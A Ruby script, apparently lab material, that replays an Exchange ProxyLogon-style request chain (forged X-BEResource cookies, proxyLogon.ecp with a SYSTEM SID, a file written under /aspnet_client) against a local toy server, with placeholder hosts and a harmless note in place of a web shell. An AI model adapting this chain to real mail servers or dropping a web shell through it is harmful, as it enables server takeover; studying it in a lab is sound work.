# Ruby port of the lab request chain (Net::HTTP); talks to the local toy server only.
require 'net/http'
require 'uri'

USER_AGENT = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36'
NOTE_PATH = '/aspnet_client/system_web/readme_91453.txt'
BROWSER = {
  'User-Agent' => USER_AGENT,
  'x-requested-with' => 'XMLHttpRequest',
  'Accept' => '*/*',
  'accept-language' => 'en-US,en;q=0.9',
  'connection' => 'close'
}.freeze

port = (ARGV[0] || 8080).to_i
Net::HTTP.start('127.0.0.1', port, read_timeout: 10) do |http|
  query = URI.encode_www_form(
    'Pad' => 'A' * 37,
    'Protocol' => 'Autodiscoverv1',
    'Email' => 'administrator@lab.invalid/mapi/nspi',
    'RequestId' => '20200302-7720'
  )
  probe = Net::HTTP::Get.new("/autodiscover/autodiscover.json?#{query}", BROWSER.merge(
    'cookie' => 'X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522'
  ))
  exit 1 if http.request(probe).code.to_i >= 500

  ident = Net::HTTP::Post.new('/ecp/proxyLogon.ecp', {
    'user-agent' => USER_AGENT,
    'msexchlogonmailbox' => 'S-1-5-20',
    'content-type' => 'application/json',
    'X-BEResource' => 'localhost@lab.invalid/ecp/proxyLogon.ecp'
  })
  ident.body = '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}'
  who = http.request(ident).body.to_s.strip
  who = 'anonymous' if who.empty?

  note = Net::HTTP::Post.new(NOTE_PATH, { 'user-agent' => USER_AGENT, 'X-Note-Path' => NOTE_PATH, 'Content-Type' => 'text/plain' })
  note.body = (1..3).map { |i| "note #{i} of 3 for #{who}" }.join("\n")
  http.request(note)
  puts http.request(Net::HTTP::Get.new(NOTE_PATH, BROWSER)).body.to_s.length
end
